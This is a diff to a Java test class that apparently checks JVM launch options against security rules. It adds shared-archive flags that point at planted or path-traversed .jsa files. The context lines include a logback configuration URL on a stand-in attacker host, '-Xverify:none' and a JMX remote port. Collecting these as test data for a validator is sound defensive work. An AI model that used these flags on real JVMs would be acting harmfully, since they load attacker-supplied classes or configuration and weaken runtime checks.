@@ -45,6 +45,11 @@ class JvmOptionRulesTest {
         "-Dcom.sun.management.jmxremote.port=9999",
         "-Dlogback.configurationFile=http://evil.example.com/logback.xml",
         "-XX:HeapDumpPath=/var/run/cachesync/dump",
+        "-XX:SharedArchiveFile=/var/run/cachesync/planted.jsa",
+        "-XX:SharedArchiveFile=/tmp/../var/run/cachesync/planted.jsa",
+        "-XX:SharedArchiveFile=planted.jsa",
+        "-XX:ArchiveClassesAtExit=/var/run/cachesync/x.jsa",
+        "-XX:SharedArchiveFile=//run//cachesync/x.jsa",
         "-Xverify:none",
         "-jar",
         "hello"
